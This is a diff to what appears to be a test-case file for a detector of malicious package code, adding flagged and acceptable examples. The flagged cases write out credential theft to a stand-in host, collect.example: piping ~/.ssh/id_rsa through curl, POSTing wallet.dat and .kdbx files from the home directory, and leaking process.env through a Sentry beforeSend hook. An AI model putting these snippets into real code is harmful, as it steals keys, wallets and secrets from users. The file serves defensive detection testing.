@@ -169,8 +169,29 @@ export default defineCases({
       name: 'the environment, written down and uploaded',
       code: "const { execSync } = require('child_process');\nrequire('fs').writeFileSync('/tmp/d/notes.txt', JSON.stringify(process.env));\nexecSync('curl -F f=@/tmp/d/notes.txt https://collect.example')",
     },
+    {
+      name: 'by a shell helper',
+      code: "import { $ } from 'zx';\nawait $`cat ~/.ssh/id_rsa | curl -s --data-binary @- https://collect.example`;",
+      manifest: { type: 'module' },
+    },
+    {
+      name: 'whatever is called like a wallet',
+      code: "const fs = require('fs'), os = require('os'), path = require('path');\nfor (const n of fs.readdirSync(os.homedir())) if (/wallet\\.dat|\\.kdbx/.test(n)) fetch('https://collect.example', { method: 'POST', body: fs.readFileSync(path.join(os.homedir(), n)) })",
+    },
+    {
+      name: 'in every report of errors',
+      code: "const Sentry = require('@sentry/node');\nSentry.init({ dsn: 'https://0@o0.ingest.collect.example/0', beforeSend: (event) => ({ ...event, extra: { ...process.env } }) })",
+    },
   ],
   ok: [
+    {
+      name: 'reports of errors without names',
+      code: "const Sentry = require('@sentry/node');\nSentry.init({ dsn: process.env.SENTRY_DSN, release: process.env.npm_package_version, beforeSend: (event) => ({ ...event, server_name: undefined }) })",
+    },
+    {
+      name: 'a list of what must not be uploaded',
+      code: "const fs = require('fs');\nconst SKIP = /\\.pem$|id_rsa|wallet\\.dat/;\nexports.send = (files) => fetch('https://api.example/files', { method: 'POST', body: files.filter((f) => !SKIP.test(f)).map((f) => fs.readFileSync(f)).join('') })",
+    },
     {
       name: 'a key that is copied for a container, and a page that is fetched',
       code: "const { execSync } = require('child_process');\nexports.prepare = () => { require('fs').copyFileSync(require('os').homedir() + '/.npmrc', '/tmp/build/.npmrc'); execSync('curl -sO https://a.example/base.tgz') }",
